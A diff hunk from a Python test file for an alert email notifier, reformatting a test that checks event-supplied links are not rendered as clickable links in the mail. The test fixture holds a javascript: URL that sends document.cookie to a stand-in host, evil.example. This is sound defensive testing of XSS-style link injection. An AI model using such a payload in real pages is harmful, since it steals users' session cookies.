@@ -52,7 +52,9 @@ def test_long_groups_are_bounded():
 
 
 def test_a_javascript_url_from_event_data_is_never_a_link_in_the_mail():
-    evil = alert(links={"orchestrator": "javascript:fetch('//evil.example/'+document.cookie)", "dashboard": "http://dagwatch.test/alerts/1"})
+    evil = alert(
+        links={"orchestrator": "javascript:fetch('//evil.example/'+document.cookie)", "dashboard": "http://dagwatch.test/alerts/1"}
+    )
     mail = email_notifier.message(notification(alerts=[evil]), "f@x", ["t@x"])
     parsed = message_from_bytes(mail.as_bytes(), policy=policy.default)
     for part in (parsed.get_body(("html",)).get_content(), parsed.get_body(("plain",)).get_content()):
